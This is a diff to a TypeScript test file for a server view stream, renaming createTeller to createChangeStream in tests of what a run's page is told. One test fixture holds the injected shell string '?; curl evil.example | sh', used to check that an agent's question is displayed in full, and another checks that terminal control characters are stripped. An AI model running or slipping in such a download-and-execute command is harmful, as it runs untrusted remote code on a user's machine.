@@ -2,7 +2,7 @@ import {readdirSync} from 'node:fs';
 import {request} from 'node:http';
 import {afterAll, afterEach, beforeAll, beforeEach, describe, expect, it} from 'vitest';
 import type {LoopbackListening} from '../../source/server/listen.ts';
-import {createTeller} from '../../source/server/view-stream.ts';
+import {createChangeStream} from '../../source/server/view-stream.ts';
 import {type ContractEngine, createContractEngine} from '../helpers/contract-engine.ts';
 import {createAuthRun, createPlannedStream, createRun, createStream, fixtureNow} from '../helpers/create-run.ts';
 import {rawRequest} from '../helpers/door.ts';
@@ -84,7 +84,7 @@ describe('what is told to a page', () => {
 	});
 
 	it('is everything first, then only what is not as it was told', () => {
-		const tell = createTeller();
+		const tell = createChangeStream();
 		expect(tell(run, fixtureNow)).toMatchObject({name: 'view', run: {name: 'Auth refactor'}, alerts: {length: 3}});
 		expect(tell(run, fixtureNow + 5000)).toBeUndefined();
 		const changed = tell(later('Stream-B', {merge: {is: 'queued'}}), fixtureNow + 6000);
@@ -97,7 +97,7 @@ describe('what is told to a page', () => {
 	});
 
 	it('counts down without a change of the run', () => {
-		const tell = createTeller();
+		const tell = createChangeStream();
 		const waiting = later('Stream-B', {
 			state: {is: 'waiting', cause: 'backoff', since: fixtureNow, until: fixtureNow + 9000},
 		});
@@ -106,7 +106,7 @@ describe('what is told to a page', () => {
 	});
 
 	it('is everything again when streams come or another run begins', () => {
-		const tell = createTeller();
+		const tell = createChangeStream();
 		tell(run, fixtureNow);
 		const streams = [...run.plan.streams, createPlannedStream({id: 'Stream-New'})];
 		const more = {
@@ -120,7 +120,7 @@ describe('what is told to a page', () => {
 	});
 
 	it('says why a command is refused now, and nothing of those that are not', () => {
-		const view = createTeller()(run, fixtureNow);
+		const view = createChangeStream()(run, fixtureNow);
 		const refusals = view?.streams?.find(stream => stream.id === 'Stream-B')?.refusals;
 		expect(refusals).toMatchObject({spawn: 'it is running already', merge: 'its agent is still working'});
 		expect(Object.keys(refusals ?? {})).not.toContain('stop');
@@ -140,7 +140,7 @@ describe('what is told to a page', () => {
 			streams: {A: stream},
 			alerts: [{key: 'x', kind: 'failed', streamId: 'A', text: nasty, cure: nasty, since: fixtureNow}],
 		});
-		expect(JSON.stringify(createTeller()(evil, fixtureNow))).not.toMatch(/\\u001b|\u202E/i);
+		expect(JSON.stringify(createChangeStream()(evil, fixtureNow))).not.toMatch(/\\u001b|\u202E/i);
 	});
 
 	it('shows the whole of what an agent asks, with nothing hidden', () => {
@@ -164,7 +164,7 @@ describe('what is told to a page', () => {
 				since: 1,
 			} as const,
 		];
-		const view = createTeller()({...asking, alerts}, fixtureNow);
+		const view = createChangeStream()({...asking, alerts}, fixtureNow);
 		expect(view?.alerts?.[0]?.question?.text).toContain('?; curl evil.example | sh');
 	});
 });
